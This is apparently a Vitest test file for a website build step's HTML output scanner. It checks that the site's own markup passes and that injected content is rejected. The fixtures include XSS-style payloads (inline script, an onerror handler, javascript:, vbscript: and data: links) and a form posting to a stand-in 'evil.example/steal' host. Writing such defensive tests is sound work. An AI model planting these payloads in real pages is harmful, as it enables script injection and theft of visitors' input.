/** The output scan refuses what no template writes, whatever let it through upstream. */
import { describe, expect, it } from "vitest";
import { scanHtml } from "../scripts/build/scan.ts";

describe("output scan", () => {
  it("accepts a page of our own: JSON-LD, links, pictures", () => {
    expect(
      scanHtml('<html><head><script type="application/ld+json">{"a":1}</script></head><body><a href="https://wa.me/62812?text=x">x</a><img src="/img/a.jpeg" srcset="/img/a.jpeg 320w, /img/b.jpeg 640w" alt=""></body></html>'),
    ).toEqual([]);
  });
  it("accepts the site's own search script and search form, and only those", () => {
    const owned = { scripts: new Set(["/assets/search.js"]), formActions: new Set(["/cari/"]) };
    expect(scanHtml('<html><body><form action="/cari/" method="get"><input name="q"></form><script type="module" src="/assets/search.js"></script></body></html>', owned)).toEqual([]);
    expect(scanHtml('<html><body><script type="module" src="/assets/other.js"></script></body></html>', owned)).toEqual(['<script src="/assets/other.js">']);
  });
  it.each([
    ["<script>alert(1)</script>", "<script> without an allowed type"],
    ['<script type="module" src="/x.js"></script>', '<script src="/x.js">'],
    ['<script type="module" src="/assets/search.js">alert(1)</script>', '<script src="/assets/search.js">'],
    ['<form action="https://evil.example/steal" method="post"><input name="p"></form>', '<form action="https://evil.example/steal">'],
    ['<form action="/cari/" method="post"></form>', '<form action="/cari/">'],
    ['<img src="x" onerror="alert(1)">', "onerror= attribute on <img>"],
    ['<a href="JavaScript:alert(1)">x</a>', 'href="JavaScript:alert(1)" on <a>'],
    ['<a href=" vbscript:msgbox(1)">x</a>', 'href=" vbscript:msgbox(1)" on <a>'],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', 'href="data:text/html;base64,PHNjcmlwdD4=" on <a>'],
    ['<iframe src="https://example.com"></iframe>', "<iframe>"],
    ['<p style="background:url(x)">x</p>', "style= attribute on <p>"],
    ['<svg><a xlink:href="javascript:alert(1)">x</a></svg>', 'xlink:href="javascript:alert(1)" on <a>'],
  ])("refuses %s", (html, what) => {
    expect(scanHtml(`<html><body>${html}</body></html>`)).toContain(what);
  });
});
